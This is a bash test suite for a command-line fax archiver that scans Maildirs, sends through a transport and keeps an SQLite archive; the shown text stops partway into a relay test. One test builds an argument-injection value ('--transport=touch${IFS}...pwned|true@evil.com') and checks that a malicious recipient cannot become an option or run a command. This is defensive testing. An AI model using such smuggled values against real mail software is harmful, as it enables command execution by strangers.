#!/usr/bin/env bash
# Black-box tests of the vexa command: each test runs the built program on a fresh throw-away
# installation, settings and Maildir made from the sample mail, and checks what a user would see:
# rows in the archive, files in Attach, folders and flags in the Maildir, what the transport got,
# exit codes and the messages printed.
#   cli_test.sh VEXA_BINARY SAMPLES_DIR [TEST_NAME...]
set -u

VEXA=$(realpath "$1")
SAMPLES=$(realpath "$2")
shift 2

# ---- helpers -------------------------------------------------------------------------------

# shellcheck source=../support/blackbox.sh
source "$(dirname "$(realpath "$0")")/../support/blackbox.sh"

install_vexa() {
    "$VEXA" init >/dev/null || fail "vexa init failed"
}

deliver() {  # deliver SAMPLE [NAME]: as a mail delivery agent does, through tmp/ into new/
    local name=${2:-$(date +%s).$RANDOM$RANDOM.testhost}
    cp "$SAMPLES/$1" "$MAILBOX/tmp/$name"
    mv "$MAILBOX/tmp/$name" "$MAILBOX/new/$name"
}


count_files() { find "$1/cur" "$1/new" -type f 2>/dev/null | wc -l; }  # messages of a Maildir folder

# A transport that keeps what it was given, for vexa send.
make_transport() {
    TRANSPORT="$WORLD/transport"
    cat >"$TRANSPORT" <<SCRIPT
#!/bin/sh
printf '%s\n' "\$@" > "$WORLD/transport-args"
cat > "$WORLD/transport-message"
exit \${TRANSPORT_STATUS:-0}
SCRIPT
    chmod +x "$TRANSPORT"
}

# ---- tests ---------------------------------------------------------------------------------

test_init_creates_and_keeps_an_installation() {
    run init
    expect_eq "exit status" 0 "$STATUS"
    [[ -f "$ARCHIVE" && -d "$INSTALL/Attach" && -f "$INSTALL/VXHELP.html" ]] || fail "installation incomplete"
    expect_eq "tables" "recv send" "$(sql "SELECT group_concat(name, ' ') FROM (SELECT name FROM sqlite_schema WHERE type='table' AND name IN ('recv','send') ORDER BY name)")"
    expect_contains "recorded folder" "$INSTALL/Corvane.dll" "$(cat "$XDG_CONFIG_HOME/vexa/registry.ini")"
    sql "INSERT INTO recv (Subject) VALUES ('kept')"
    echo "old fax" >"$INSTALL/Attach/R0000001.tif"
    run init
    expect_eq "second init" 0 "$STATUS"
    expect_eq "row kept" "kept" "$(sql "SELECT Subject FROM recv")"
    expect_eq "file kept" "old fax" "$(cat "$INSTALL/Attach/R0000001.tif")"
    run init --home "$WORLD/elsewhere"
    expect_contains "new folder recorded" "$WORLD/elsewhere/Corvane.dll" "$(cat "$XDG_CONFIG_HOME/vexa/registry.ini")"
    # An installation that an earlier vexa recorded in registry.reg only is found and recorded anew.
    rm "$XDG_CONFIG_HOME/vexa/registry.ini"
    printf 'Windows Registry Editor Version 5.00\n\n[HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\App Paths\\Corvane.dll]\n@="%s/Corvane.dll"\n\n' \
        "$INSTALL" >"$XDG_CONFIG_HOME/vexa/registry.reg"
    run scan
    expect_eq "recorded in registry.reg: scan" 0 "$STATUS"
    expect_contains "taken over" "$INSTALL/Corvane.dll" "$(cat "$XDG_CONFIG_HOME/vexa/registry.ini")"
}

test_start_up_failures_exit_78() {
    run scan
    expect_eq "without installation" 78 "$STATUS"
    expect_eq "message" "Can't init : Application-defined or object-defined error" "$(head -n 1 <<<"$ERR")"
    install_vexa
    run scan --maildir "$WORLD/no-such-maildir"
    expect_eq "without mailbox" 78 "$STATUS"
    expect_contains "message" "Can't init : " "$ERR"
    rm "$ARCHIVE"
    run scan
    expect_eq "without archive" 78 "$STATUS"
    expect_contains "engine's description" "unable to open database file" "$ERR"
}

test_scan_archives_faxes_and_leaves_the_rest() {
    install_vexa
    deliver 01-incoming-tiff.eml 1000.a.host
    deliver 02-incoming-pdf.eml 1001.b.host
    deliver 03-incoming-no-attachment.eml 1002.c.host
    deliver 07-unrelated.eml 1003.d.host
    touch -d '2026-12-01 10:00' "$MAILBOX/new/1000.a.host"
    touch -d '2026-12-01 10:01' "$MAILBOX/new/1001.b.host"
    run scan
    expect_eq "exit status" 1 "$STATUS"
    expect_eq "summary" "2 archived as incoming faxes, 0 as confirmations, 0 confirmations matched no fax, 1 left alone, 1 failed" "$OUT"
    expect_eq "message" "1002.c.host (eFax voice message from \"2125550147\" - 0:42 minutes): Incoming message does not contain an attachment!" "$ERR"
    expect_eq "rows" "1|NY4711-23|fax.tif|R0000001.tif|1
2|LA0815-02|Fax übersicht.pdf|R0000002.pdf|1" "$(sql "SELECT Id, Number, FileName, FileId, New FROM recv ORDER BY Id")"
    expect_contains "decoded subject" "Müller" "$(sql "SELECT Subject FROM recv WHERE Id = 1")"
    expect_eq "subject with the caller" 'eFax message from "3105550199" - 1 page(s), Caller-ID: Zoë Ångström' "$(sql "SELECT Subject FROM recv WHERE Id = 2")"
    expect_eq "fax bytes" 9db20cf3f7070e7c266bfcd97a8c419169d28eaf71420a465648f388d06d946e \
        "$(sha256sum <"$INSTALL/Attach/R0000001.tif" | cut -c1-64)"
    expect_eq "pdf bytes" 2b55c529f2e49d438ce9e2f2cb62d1fc14b5815dbd41b2ebe411b9d25c759d1c \
        "$(sha256sum <"$INSTALL/Attach/R0000002.pdf" | cut -c1-64)"
    expect_eq "received time, local" "2023-03-14 09:15:42" "$(sql "SELECT Date FROM recv WHERE Id = 1")"
    expect_eq "moved to the store folder" 2 "$(count_files "$MAILBOX/.VX2 Messages")"
    [[ -f "$MAILBOX/.VX2 Messages/maildirfolder" ]] || true
    expect_eq "left in the Inbox" "1002.c.host 1003.d.host" "$(ls "$MAILBOX/new" "$MAILBOX/cur" | grep host | sort | tr '\n' ' ' | sed 's/ $//')"
    # A second scan finds nothing new: each message arrives once; the failed one stays unread.
    run scan
    expect_eq "rescan" "0 archived as incoming faxes, 0 as confirmations, 0 confirmations matched no fax, 0 left alone, 0 failed" "$OUT"
}

# A recipient is never taken for one of send's own options, however it is spelled: the mail
# reader passes the addresses a stranger's Reply-To: chose, often without "--".
test_send_never_takes_a_recipient_for_an_option() {
    install_vexa
    make_transport
    local evil='--transport=touch${IFS}'"$WORLD"'/pwned|true@evil.com' args
    for args in "-oi#$evil#--description=x@evil.com#--maildir=/tmp/x@evil.com" "$evil#-oi" "-f#ann@example.org#--transport#/bin/false"; do
        IFS='#' read -r -a argv <<<"$args"
        rm -f "$WORLD/transport-args"
        VEXA_TRANSPORT=$TRANSPORT "$VEXA" send "${argv[@]}" <"$SAMPLES/07-unrelated.eml" >/dev/null 2>"$WORLD/stderr"
        expect_eq "$args: status" 0 "$?"
        expect_eq "$args: every argument to the transport" "$(printf '%s\n' "${argv[@]}")" "$(cat "$WORLD/transport-args")"
    done
    [[ -e "$WORLD/pwned" ]] && fail "a recipient ran a command"
}

test_send_tags_records_and_hands_on() {
    install_vexa
    make_transport
    OUT=$("$VEXA" send --transport "$TRANSPORT -oi" -f ann@example.org -- 12125551234@efaxsend.com \
        <"$SAMPLES/04-outgoing-fax.eml" 2>"$WORLD/stderr")
    STATUS=$?
    expect_eq "exit status" 0 "$STATUS"
    expect_eq "stderr" "" "$(cat "$WORLD/stderr")"
    expect_eq "transport arguments" "-oi
-f
ann@example.org
--
12125551234@efaxsend.com" "$(cat "$WORLD/transport-args")"
    expect_eq "tagged subject" "Subject: Quote for ACME {0000001}" "$(grep -a '^Subject:' "$WORLD/transport-message" | tr -d '\r')"
    expect_eq "nothing else changed" "" "$(diff <(grep -av '^Subject:' "$SAMPLES/04-outgoing-fax.eml") <(grep -av '^Subject:' "$WORLD/transport-message"))"
    expect_eq "row" "1|12125551234|Quote for ACME|(no description)|quote.pdf|S0000001.pdf|Unconfirmed" \
        "$(sql "SELECT Id, Number, Subject, Description, FileName, FileId, Confirm FROM send")"
    [[ -s "$INSTALL/Attach/S0000001.pdf" ]] || fail "document not stored"

    # The confirmation comes back and marks the row.
    deliver 05-confirmation-success.eml
    run scan
    expect_eq "confirmation scan" "0 archived as incoming faxes, 1 as confirmations, 0 confirmations matched no fax, 0 left alone, 0 failed" "$OUT"
    expect_eq "confirmed" "Successful" "$(sql "SELECT Confirm FROM send WHERE Id = 1")"
    deliver 06-confirmation-failure.eml
    run scan
    expect_eq "failure report" "Unsuccessful" "$(sql "SELECT Confirm FROM send WHERE Id = 1")"
    expect_eq "confirmations cleaned" 2 "$(count_files "$MAILBOX/.VX2 Messages")"
}

test_send_with_a_description_and_ordinary_mail() {
    install_vexa
    make_transport
    "$VEXA" send --transport "$TRANSPORT" --description "Quote, 2 pages" -- x@efaxsend.com \
        <"$SAMPLES/04-outgoing-fax.eml" >/dev/null 2>&1
    expect_eq "description" "Quote, 2 pages" "$(sql "SELECT Description FROM send")"
    "$VEXA" send --transport "$TRANSPORT" -- ann@example.org <"$SAMPLES/07-unrelated.eml" >/dev/null 2>&1
    expect_eq "ordinary mail goes out unchanged" "" "$(cmp "$SAMPLES/07-unrelated.eml" "$WORLD/transport-message")"
    expect_eq "and unrecorded" 1 "$(sql "SELECT count(*) FROM send")"
    TRANSPORT_STATUS=3 "$VEXA" send --transport "$TRANSPORT" <"$SAMPLES/07-unrelated.eml" >/dev/null 2>&1
    expect_eq "transport's status" 3 "$?"
}

test_send_stops_a_fax_that_cannot_be_recorded() {
    install_vexa
    make_transport
    rm -r "$INSTALL/Attach"
    OUT=$("$VEXA" send --transport "$TRANSPORT" <"$SAMPLES/04-outgoing-fax.eml" 2>"$WORLD/stderr")
    STATUS=$?
    expect_eq "exit status" 75 "$STATUS"
    expect_contains "reason" 'Error in "StoreOutMessage": ' "$(cat "$WORLD/stderr")"
    expect_contains "not sent" "not sent" "$(cat "$WORLD/stderr")"
    [[ ! -e "$WORLD/transport-message" ]] || fail "the transport got the fax"
    expect_eq "no row" 0 "$(sql "SELECT count(*) FROM send")"
}

test_convert_archives_by_hand() {
    install_vexa
    run convert
    expect_eq "none" "No message selected!" "$ERR"
    expect_eq "status" 1 "$STATUS"
    run convert "$SAMPLES/08-not-a-message.txt"
    expect_eq "not mail" "Message is not correct type!" "$ERR"
    run convert "$SAMPLES/07-unrelated.eml"
    expect_eq "unrelated" "Message is not correct type!" "$ERR"
    run convert --description "by hand" "$SAMPLES/01-incoming-tiff.eml"
    expect_eq "stored" 0 "$STATUS"
    expect_eq "row" "by hand|R0000001.tif" "$(sql "SELECT Description, FileId FROM recv")"
    [[ -f "$SAMPLES/01-incoming-tiff.eml" ]] || fail "the file was moved"
    run convert "$WORLD/missing.eml"
    expect_eq "missing file" 64 "$STATUS"
}

test_options_show_and_set() {
    run options --show
    expect_eq "defaults" "InCriteria=message@inbound.efax.com
ConfirmCriteria=send@mail.efax.com
OutCriteria=efaxsend.com
StoreInMessages=True
StoreFolderName=VX2 Messages
AskDescription=1" "$OUT"
    run options --set StoreInMessages=False --set "StoreFolderName=Faxes; 2026" --set AskDescription=0 --show
    expect_eq "status" 0 "$STATUS"
    expect_contains "choice" "StoreInMessages=False" "$OUT"
    expect_contains "folder" "StoreFolderName=Faxes; 2026" "$OUT"
    expect_contains "ask" "AskDescription=0" "$OUT"
    for bad in AskDescription=2 StoreInMessages=yes Colour=blue NoEquals; do
        run options --set "$bad"
        expect_eq "refused $bad" 64 "$STATUS"
    done
    run options --show
    expect_contains "unchanged after refusals" "StoreFolderName=Faxes; 2026" "$OUT"
}

test_deleting_instead_of_storing() {
    install_vexa
    "$VEXA" options --set StoreInMessages=False >/dev/null
    deliver 01-incoming-tiff.eml
    run scan
    expect_eq "deleted to Trash" 1 "$(count_files "$MAILBOX/.Trash")"
    expect_eq "archived" 1 "$(sql "SELECT count(*) FROM recv")"
}

test_open_and_manual_use_the_associated_program() {
    install_vexa
    mkdir -p "$WORLD/bin"
    printf '#!/bin/sh\nprintf "%%s\\n" "$1" >> "%s/opened"\n' "$WORLD" >"$WORLD/bin/xdg-open"
    chmod +x "$WORLD/bin/xdg-open"
    PATH="$WORLD/bin:$PATH" run manual
    expect_eq "status" 0 "$STATUS"
    for _ in $(seq 100); do [[ $(wc -l <"$WORLD/opened" 2>/dev/null) == 1 ]] && break; sleep 0.05; done
    expect_eq "opened" "$INSTALL/VXHELP.html" "$(sort "$WORLD/opened")"
    PATH="/usr/bin:/bin" run manual
    if [[ ! -x /usr/bin/xdg-open ]]; then expect_eq "no associated program" "Can't open help!" "$ERR"; fi
}

test_watch_archives_deliveries_as_they_come() {
    install_vexa
    deliver 01-incoming-tiff.eml 2000.early.host
    "$VEXA" watch >"$WORLD/watch-out" 2>"$WORLD/watch-err" &
    local pid=$!
    for _ in $(seq 200); do grep -q Watching "$WORLD/watch-out" 2>/dev/null && break; sleep 0.05; done
    deliver 02-incoming-pdf.eml 2001.later.host
    deliver 07-unrelated.eml 2002.other.host
    for _ in $(seq 200); do [[ $(count_files "$MAILBOX/.VX2 Messages") == 2 ]] && break; sleep 0.05; done
    # A mail reader marking a message read renames it: that is no new arrival.
    mv "$MAILBOX/new/2002.other.host" "$MAILBOX/cur/2002.other.host:2,S"
    sleep 0.3
    kill -TERM "$pid"
    wait "$pid"
    expect_eq "exit status" 0 "$?"
    expect_eq "archived" "R0000001.tif R0000002.pdf" "$(sql "SELECT group_concat(FileId, ' ') FROM (SELECT FileId FROM recv ORDER BY Id)")"
    expect_eq "nothing reported" "" "$(cat "$WORLD/watch-err")"
}

test_one_archiving_process_per_mailbox() {
    install_vexa
    deliver 01-incoming-tiff.eml
    "$VEXA" watch >"$WORLD/watch-out" 2>"$WORLD/watch-err" &
    local pid=$!
    for _ in $(seq 200); do grep -q Watching "$WORLD/watch-out" 2>/dev/null && break; sleep 0.05; done
    run scan
    expect_eq "a second archiver is turned away" 75 "$STATUS"
    expect_contains "who holds the mailbox" "in use by another vexa (process $pid)" "$ERR"
    expect_contains "which mailbox" "$MAILBOX" "$ERR"
    "$VEXA" watch >/dev/null 2>"$WORLD/second-watch-err" </dev/null
    expect_eq "a second watcher too" 75 "$?"
    # Another mailbox on the same installation is still one installation.
    mkdir -p "$WORLD/other"/{cur,new,tmp}
    run scan --maildir "$WORLD/other"
    expect_eq "the installation is taken as well" 75 "$STATUS"
    expect_contains "which installation" "$INSTALL is in use by another vexa (process $pid)" "$ERR"
    # Senders may run beside the watcher.
    make_transport
    "$VEXA" send --transport "$TRANSPORT" -- 12125551234@efaxsend.com <"$SAMPLES/04-outgoing-fax.eml" 2>"$WORLD/stderr"
    expect_eq "a send beside the watcher" 0 "$?"
    kill -TERM "$pid"
    wait "$pid"
    run scan
    expect_eq "free again once the watcher is gone" 0 "$STATUS"
    expect_eq "archived once" 1 "$(sql "SELECT COUNT(*) FROM recv")"
}

test_senders_at_the_same_time_get_their_own_rows() {
    install_vexa
    mkdir -p "$WORLD/sent"
    cat >"$WORLD/keep" <<SCRIPT
#!/bin/sh
cat > "$WORLD/sent/\$\$"
SCRIPT
    chmod +x "$WORLD/keep"
    local pids=()
    for _ in $(seq 8); do
        "$VEXA" send --transport "$WORLD/keep" -- 12125551234@efaxsend.com \
            <"$SAMPLES/04-outgoing-fax.eml" 2>>"$WORLD/stderr" &
        pids+=($!)
    done
    local statuses=""
    for pid in "${pids[@]}"; do wait "$pid"; statuses+="$? "; done
    expect_eq "every send went ahead" "0 0 0 0 0 0 0 0 " "$statuses"
    expect_eq "nothing reported" "" "$(cat "$WORLD/stderr")"
    expect_eq "rows" "8|8" "$(sql "SELECT COUNT(*), COUNT(DISTINCT Id) FROM send")"
    expect_eq "each mail carries its own tag" 8 \
        "$(cat "$WORLD"/sent/* | grep -a '^Subject:' | grep -o '{[0-9]*}' | sort -u | wc -l)"
    expect_eq "each document stored" 8 "$(find "$INSTALL/Attach" -name 'S*.pdf' | wc -l)"
}

# Runs vexa on a terminal of its own (script gives it one) and types KEYS once the prompt shows.
on_terminal() {  # on_terminal KEYS ARGS...
    local keys=$1
    shift
    mkfifo "$WORLD/keys"
    # A fresh screen each time: the last prompt's text must not pass for this one's. The run is
    # bounded, so a prompt that never takes the keys fails the test instead of stalling it.
    rm -f "$WORLD/screen"
    timeout 30 script -qfec "$(printf '%q ' "$VEXA" "$@")" "$WORLD/screen" <"$WORLD/keys" >/dev/null 2>&1 &
    local pid=$!
    exec 3>"$WORLD/keys"
    for _ in $(seq 200); do grep -q "Type description" "$WORLD/screen" 2>/dev/null && break; sleep 0.05; done
    printf "$keys" >&3
    exec 3>&-
    wait "$pid"
    rm "$WORLD/keys"
}

test_description_prompt_on_the_terminal() {
    install_vexa
    command -v script >/dev/null || return 0
    on_terminal 'Invoice\xc3\xa9 7\r' convert "$SAMPLES/01-incoming-tiff.eml"
    on_terminal 'first\nsecond\r' convert "$SAMPLES/01-incoming-tiff.eml"
    on_terminal 'typed then\x1b' convert "$SAMPLES/01-incoming-tiff.eml"
    on_terminal '\r' convert "$SAMPLES/01-incoming-tiff.eml"
    expect_eq "descriptions" "Invoiceé 7
first
second
(no description)" "$(sql "SELECT Description FROM recv ORDER BY Id" | tr -d '\r')"
    # Without a terminal and without --description, the prompt cannot be shown.
    setsid "$VEXA" convert "$SAMPLES/01-incoming-tiff.eml" </dev/null >/dev/null 2>&1
    expect_eq "no terminal" "(no description)" "$(sql "SELECT Description FROM recv ORDER BY Id DESC LIMIT 1")"
}

test_usage_errors_exit_64() {
    run frobnicate
    expect_eq "unknown command" 64 "$STATUS"
    run scan --bogus
    expect_eq "unknown option" 64 "$STATUS"
    run
    expect_eq "no command" 64 "$STATUS"
    run --help
    expect_eq "help" 0 "$STATUS"
    expect_contains "help lists commands" "convert" "$OUT"
}

# -- the archive: used-up numbers, empty criteria, option repair, private files, foreign archives --

test_a_refused_number_is_used_up() {
    install_vexa
    make_transport
    echo "restored from a backup" >"$INSTALL/Attach/R0000001.tif"
    echo "copied by hand" >"$INSTALL/Attach/S0000001.pdf"
    deliver 01-incoming-tiff.eml 1000.a.host
    deliver 01-incoming-tiff.eml 1001.b.host
    touch -d '2026-12-01 10:00' "$MAILBOX/new/1000.a.host"
    touch -d '2026-12-01 10:01' "$MAILBOX/new/1001.b.host"
    run scan
    expect_eq "first refused" 1 "$STATUS"
    expect_contains "reason" 'Error in "StoreInMessage": File already exists' "$ERR"
    expect_eq "the next one takes the next number" "2|R0000002.tif" "$(sql "SELECT Id, FileId FROM recv")"
    expect_eq "the refused fax stays in the Inbox" 1 "$(count_files "$MAILBOX")"
    deliver 02-incoming-pdf.eml
    run scan
    expect_eq "and so does every later one" "2|R0000002.tif 3|R0000003.pdf" \
        "$(sql "SELECT Id, FileId FROM recv ORDER BY Id" | tr '\n' ' ' | sed 's/ $//')"
    expect_eq "stale fax kept" "restored from a backup" "$(cat "$INSTALL/Attach/R0000001.tif")"

    "$VEXA" send --transport "$TRANSPORT" <"$SAMPLES/04-outgoing-fax.eml" >/dev/null 2>&1
    expect_eq "first send stopped" 75 "$?"
    "$VEXA" send --transport "$TRANSPORT" <"$SAMPLES/04-outgoing-fax.eml" >/dev/null 2>"$WORLD/stderr"
    expect_eq "second send goes out" 0 "$?"
    expect_eq "tagged with the next number" "Subject: Quote for ACME {0000002}" \
        "$(grep -a '^Subject:' "$WORLD/transport-message" | tr -d '\r')"
    expect_eq "send row" "2|S0000002.pdf" "$(sql "SELECT Id, FileId FROM send")"
}

test_an_empty_criterion_archives_nothing() {
    install_vexa
    run options --set InCriteria= --set ConfirmCriteria=
    expect_eq "accepted" 0 "$STATUS"
    deliver 01-incoming-tiff.eml
    deliver 05-confirmation-success.eml
    deliver 07-unrelated.eml
    run scan
    expect_contains "nothing archived" "0 archived as incoming faxes, 0 as confirmations, " "$OUT"
    expect_contains "all left alone" "3 left alone, 0 failed" "$OUT"
    expect_eq "no rows" 0 "$(sql "SELECT count(*) FROM recv")"
    expect_eq "all still in the Inbox" 3 "$(count_files "$MAILBOX")"
}

test_options_refuse_folder_paths_and_repair_damaged_values() {
    run options --set "StoreFolderName=Faxes 2026"
    for bad in "StoreFolderName=/" "StoreFolderName=a/b" "StoreFolderName=.." \
        "StoreFolderName=." "StoreFolderName=.Trash" "StoreFolderName=Fa"$'\t'"x"; do
        run options --set "$bad"
        expect_eq "refused $bad" 64 "$STATUS"
        expect_contains "says why: $bad" "StoreFolderName takes one folder name" "$ERR"
    done
    run options --show
    expect_contains "unchanged" "StoreFolderName=Faxes 2026" "$OUT"

    local ini="$XDG_CONFIG_HOME/vexa/settings.ini"
    sed -i 's/^StoreInMessages=.*/StoreInMessages="perhaps"/; s/^AskDescription=.*/AskDescription="7"/' "$ini"
    run options --show
    expect_eq "damaged" 1 "$STATUS"
    run options --set StoreInMessages=False
    expect_eq "one damaged value left" 1 "$STATUS"
    expect_contains "reported" 'Error in "BtnOptions_Click": ' "$ERR"
    run options --set AskDescription=0 --show
    expect_eq "repaired" 0 "$STATUS"
    expect_contains "choice repaired" "StoreInMessages=False" "$OUT"
    expect_contains "check box repaired" "AskDescription=0" "$OUT"
    expect_contains "the rest kept" "StoreFolderName=Faxes 2026" "$OUT"
    run options --set "StoreFolderName=" --show
    expect_eq "no folder: archived mail stays in the Inbox" 0 "$STATUS"
    expect_contains "emptied" "StoreFolderName=
" "$OUT
"
}

test_the_installation_is_private_whatever_the_umask() {
    umask 000
    run init
    expect_eq "init" 0 "$STATUS"
    deliver 01-incoming-tiff.eml
    "$VEXA" scan >/dev/null 2>&1
    local modes
    modes=$(cd "$INSTALL" && stat -c '%n %a' . Attach Corvane.mdb VXHELP.html vexa.lock Attach/R0000001.tif)
    expect_eq "modes" ". 700
Attach 700
Corvane.mdb 600
VXHELP.html 600
vexa.lock 600
Attach/R0000001.tif 600" "$modes"
    for log in Corvane.mdb-wal Corvane.mdb-shm; do
        [[ ! -e "$INSTALL/$log" ]] || expect_eq "$log" 600 "$(stat -c %a "$INSTALL/$log")"
    done

    # An installation made before is tightened by running init again; its files stay as they were.
    chmod 755 "$INSTALL" "$INSTALL/Attach"
    chmod 644 "$INSTALL/Corvane.mdb" "$INSTALL/VXHELP.html" "$INSTALL/vexa.lock"
    chmod 444 "$INSTALL/Attach/R0000001.tif"
    local bytes
    bytes=$(sha256sum <"$INSTALL/Attach/R0000001.tif")
    run init
    expect_eq "second init" 0 "$STATUS"
    modes=$(cd "$INSTALL" && stat -c '%n %a' . Attach Corvane.mdb VXHELP.html vexa.lock Attach/R0000001.tif)
    expect_eq "tightened" ". 700
Attach 700
Corvane.mdb 600
VXHELP.html 600
vexa.lock 600
Attach/R0000001.tif 400" "$modes"
    expect_eq "fax kept" "$bytes" "$(sha256sum <"$INSTALL/Attach/R0000001.tif")"
    expect_eq "row kept" 1 "$(sql "SELECT count(*) FROM recv")"
}

test_init_keeps_a_file_that_is_not_an_archive() {
    mkdir -p "$INSTALL"
    printf 'my own notes\n' >"$ARCHIVE"
    run init
    expect_eq "exit status" 1 "$STATUS"
    expect_contains "says so" "$ARCHIVE is not a Vexa archive" "$ERR"
    expect_eq "file kept" "my own notes" "$(cat "$ARCHIVE")"
    [[ ! -e "$XDG_CONFIG_HOME/vexa/registry.ini" ]] || fail "the installation was recorded"
    sqlite3 "$ARCHIVE.other" "CREATE TABLE recv (Id INTEGER PRIMARY KEY, Subject TEXT)" && mv "$ARCHIVE.other" "$ARCHIVE"
    run init
    expect_eq "another database" 1 "$STATUS"
    expect_contains "names what is missing" "no column Date in table recv" "$ERR"
    expect_eq "its tables kept" "recv" "$(sql "SELECT name FROM sqlite_schema")"
}

# ---- sending, start-up messages, convert, open, --help ------------------------------------

send_fax() {  # send_fax ARGS... < message: sets STATUS and ERR
    "$VEXA" send "$@" >/dev/null 2>"$WORLD/stderr"
    STATUS=$?
    ERR=$(cat "$WORLD/stderr")
}

test_mail_goes_out_before_the_installation_and_without_a_maildir() {
    make_transport
    rm -r "$MAILBOX"
    send_fax --transport "$TRANSPORT" -- 12125551234@efaxsend.com <"$SAMPLES/04-outgoing-fax.eml"
    expect_eq "not installed: sent" 0 "$STATUS"
    expect_eq "and unchanged" "" "$(cmp "$SAMPLES/04-outgoing-fax.eml" "$WORLD/transport-message")"
    expect_eq "messages" "Can't init : Application-defined or object-defined error
Vexa is not installed (no installation is recorded in $XDG_CONFIG_HOME/vexa/registry.ini): 'vexa init' creates it.
Application is not initialized!" "$ERR"
    mkdir -p "$MAILBOX"/{cur,new,tmp}
    run scan
    expect_eq "scan before init" 78 "$STATUS"
    expect_contains "how to install" "'vexa init' creates it" "$ERR"

    mkdir -p "$XDG_CONFIG_HOME/vexa"
    echo "not a registry file" >"$XDG_CONFIG_HOME/vexa/registry.ini"
    rm "$WORLD/transport-message"
    send_fax --transport "$TRANSPORT" <"$SAMPLES/07-unrelated.eml"
    expect_eq "damaged record: sent" 0 "$STATUS"
    expect_eq "and unchanged" "" "$(cmp "$SAMPLES/07-unrelated.eml" "$WORLD/transport-message")"
    expect_contains "the damage is a start-up failure" "Can't init : Can't read $XDG_CONFIG_HOME/vexa/registry.ini" "$ERR"
    run scan
    expect_eq "scan with a damaged record" 78 "$STATUS"
    expect_contains "says so" "Can't init : Can't read" "$ERR"
    run options --show
    expect_eq "options still work" 0 "$STATUS"
    expect_contains "options shown" "OutCriteria=efaxsend.com" "$OUT"

    rm "$XDG_CONFIG_HOME/vexa/registry.ini"
    rm -r "$MAILBOX"
    install_vexa
    send_fax --transport "$TRANSPORT" -- 12125551234@efaxsend.com <"$SAMPLES/04-outgoing-fax.eml"
    expect_eq "installed, no Maildir: sent" 0 "$STATUS"
    expect_eq "nothing reported" "" "$ERR"
    expect_eq "recorded" "1|S0000001.pdf" "$(sql "SELECT Id, FileId FROM send")"
}

test_a_fax_whose_transport_fails_is_not_archived() {
    install_vexa
    make_transport
    send_fax --transport "$WORLD/no-such-sendmail -oi" <"$SAMPLES/04-outgoing-fax.eml"
    expect_eq "transport missing" 78 "$STATUS"
    expect_contains "why" "$WORLD/no-such-sendmail is not an executable file" "$ERR"
    send_fax --transport "no-such-sendmail-anywhere" <"$SAMPLES/04-outgoing-fax.eml"
    expect_contains "looked up on PATH" "no-such-sendmail-anywhere is not found on PATH" "$ERR"
    expect_eq "nothing archived before the check" 0 "$(sql "SELECT count(*) FROM send")"

    TRANSPORT_STATUS=3 send_fax --transport "$TRANSPORT" -- 12125551234@efaxsend.com <"$SAMPLES/04-outgoing-fax.eml"
    expect_eq "the transport's status" 3 "$STATUS"
    expect_contains "its reason" "the transport exited with status 3" "$ERR"
    expect_contains "what became of the fax" "{0000001} is taken out of the archive" "$ERR"
    expect_eq "no row" 0 "$(sql "SELECT count(*) FROM send")"
    expect_eq "no document" "" "$(ls "$INSTALL/Attach")"

    send_fax --transport "$TRANSPORT" -- 12125551234@efaxsend.com <"$SAMPLES/04-outgoing-fax.eml"
    expect_eq "the retry goes out" 0 "$STATUS"
    local row
    row=$(sql "SELECT Id FROM send")
    expect_eq "one row" 1 "$(sql "SELECT count(*) FROM send")"
    expect_contains "its tag is the row's" "$(printf '{%07d}' "$row")" "$(grep -a '^Subject:' "$WORLD/transport-message")"
}

test_the_transport_from_the_environment_and_the_settings_file() {
    install_vexa
    make_transport
    printf '[Mail]\nTransport=%s -a work\n' "$TRANSPORT" >"$XDG_CONFIG_HOME/vexa/settings.ini"
    send_fax -- ann@example.org <"$SAMPLES/07-unrelated.eml"
    expect_eq "settings file" "-a work -- ann@example.org" "$(tr '\n' ' ' <"$WORLD/transport-args" | sed 's/ $//')"
    VEXA_TRANSPORT="$TRANSPORT -a env" send_fax -- ann@example.org <"$SAMPLES/07-unrelated.eml"
    expect_eq "environment first" "-a env -- ann@example.org" "$(tr '\n' ' ' <"$WORLD/transport-args" | sed 's/ $//')"
    VEXA_TRANSPORT="$TRANSPORT -a env" send_fax --transport "$TRANSPORT -a option" <"$SAMPLES/07-unrelated.eml"
    expect_eq "option before both" "-a option" "$(tr '\n' ' ' <"$WORLD/transport-args" | sed 's/ $//')"
    expect_contains "settings kept" "Transport=$TRANSPORT -a work" "$(cat "$XDG_CONFIG_HOME/vexa/settings.ini")"
}

test_the_description_comes_from_the_message() {
    install_vexa
    make_transport
    # A folded field in other letter case, with an encoded word, as mail readers write it.
    send_fax --transport "$TRANSPORT" -- 12125551234@efaxsend.com \
        < <(printf 'x-fax-description: =?UTF-8?Q?Angebot_f=C3=BCr?=\r\n ACME\r\n'; cat "$SAMPLES/04-outgoing-fax.eml")
    expect_eq "sent" 0 "$STATUS"
    expect_eq "description" "Angebot für ACME" "$(sql "SELECT Description FROM send")"
    expect_eq "field taken out, nothing else changed" "" \
        "$(diff <(grep -av '^Subject:' "$SAMPLES/04-outgoing-fax.eml") <(grep -av '^Subject:' "$WORLD/transport-message"))"
    send_fax --transport "$TRANSPORT" --description "from the option" \
        < <(printf 'X-Fax-Description: from the field\r\n'; cat "$SAMPLES/04-outgoing-fax.eml")
    expect_eq "the option first" "from the option" "$(sql "SELECT Description FROM send WHERE Id = 2")"
    # Not asking is no reason to drop an answer given in advance.
    "$VEXA" options --set AskDescription=0 >/dev/null
    # Blanks before the colon: the obsolete form of a field, still met in the wild.
    send_fax --transport "$TRANSPORT" < <(printf 'X-Fax-Description \t: not asked\r\n'; cat "$SAMPLES/04-outgoing-fax.eml")
    expect_eq "field with blanks before its colon taken out" 0 "$(grep -aci '^x-fax-description' "$WORLD/transport-message")"
    run convert --description "given" "$SAMPLES/01-incoming-tiff.eml"
    send_fax --transport "$TRANSPORT" <"$SAMPLES/04-outgoing-fax.eml"
    expect_eq "given though not asked" "not asked|given|(no description)" \
        "$(sql "SELECT Description FROM send WHERE Id = 3")|$(sql "SELECT Description FROM recv")|$(sql "SELECT Description FROM send WHERE Id = 4")"
}

test_relay_refuses_a_listen_address_it_cannot_use() {
    mkdir -p "$XDG_CONFIG_HOME/vexa"
    printf '[Relay]\nUpstream=smtps://mail.example.org:465\n' >"$XDG_CONFIG_HOME/vexa/settings.ini"
    local port
    for port in 99999 65536 0; do
        timeout 3 "$VEXA" relay --listen "127.0.0.1:$port" >/dev/null 2>"$WORLD/stderr"
